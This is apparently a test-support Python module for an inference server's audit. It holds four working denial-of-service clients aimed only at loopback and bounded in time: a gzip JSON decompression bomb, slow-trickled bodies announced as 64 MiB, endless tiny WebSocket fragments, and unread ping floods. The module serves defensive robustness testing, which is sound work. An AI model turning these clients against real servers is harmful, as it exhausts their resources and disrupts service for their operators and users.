"""Clients that mean harm, each in a process of its own; bounded in time, on loopback only.

Each is one of the findings of the server's audit: what it sends costs the client almost nothing.
"""

from __future__ import annotations

import gzip
import socket
import time
from contextlib import contextmanager, suppress
from http.client import HTTPConnection, HTTPException
from multiprocessing import get_context
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

_UPGRADE = (
    "GET /v2/models/{name}/stream HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)


def json_bomb(port: int, name: str, until: float) -> None:
    """64 kB of gzip that unpack to empty lists, 15 MB and 66 MB of them in turn."""
    bombs = [gzip.compress(b"[" + b"[]," * count + b"[]]") for count in (5_000_000, 22_000_000)]
    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
    while time.monotonic() < until:
        for bomb in bombs:
            connection = HTTPConnection("127.0.0.1", port, timeout=30)
            with suppress(OSError, HTTPException):
                connection.request("POST", f"/v2/models/{name}/infer", bomb, headers)
                connection.getresponse().read()
            connection.close()


def announced(port: int, name: str, until: float) -> None:
    """Eight bodies that are announced with 64 MiB and arrive with 100 bytes a second."""
    head = (
        f"POST /v2/models/{name}/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\n"
        f"Content-Length: {64 * 2**20}\r\n\r\n"
    ).encode()
    connections = [socket.create_connection(("127.0.0.1", port), 30) for _ in range(8)]
    for connection in connections:
        connection.sendall(head)
    while time.monotonic() < until:
        for connection in connections:
            with suppress(OSError):
                connection.sendall(bytes(100))
        time.sleep(1)
    for connection in connections:
        connection.close()


def _stream(port: int, name: str, until: float, frames: bytes) -> None:
    while time.monotonic() < until:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), 5) as connection:
            connection.sendall(_UPGRADE.format(name=name).encode())
            connection.recv(4096)
            while time.monotonic() < until:
                connection.sendall(frames)


def fragments(port: int, name: str, until: float) -> None:
    """One message of fragments of two bytes, which never ends; again and again."""
    _stream(port, name, until, b"\x02\x80\0\0\0\0" + b"\x00\x82\0\0\0\0ab" * 131_072)


def pings(port: int, name: str, until: float) -> None:
    """Pings of a hundred bytes, whose answers are not read."""
    _stream(port, name, until, (b"\x89\xe4\0\0\0\0" + b"a" * 100) * 9900)


ATTACKS: dict[str, Callable[[int, str, float], None]] = {
    "JSON bomb": json_bomb,
    "announced bodies": announced,
    "tiny fragments": fragments,
    "pings": pings,
}


@contextmanager
def under_attack(kind: str, port: int, name: str, seconds: float) -> Iterator[None]:
    """Run a block beside an attack that lasts so long."""
    made = get_context("spawn").Process(target=ATTACKS[kind], args=(port, name, time.monotonic() + seconds))
    made.start()
    try:
        yield
    finally:
        made.join(seconds + 60)
        if made.is_alive():
            made.terminate()
            made.join()
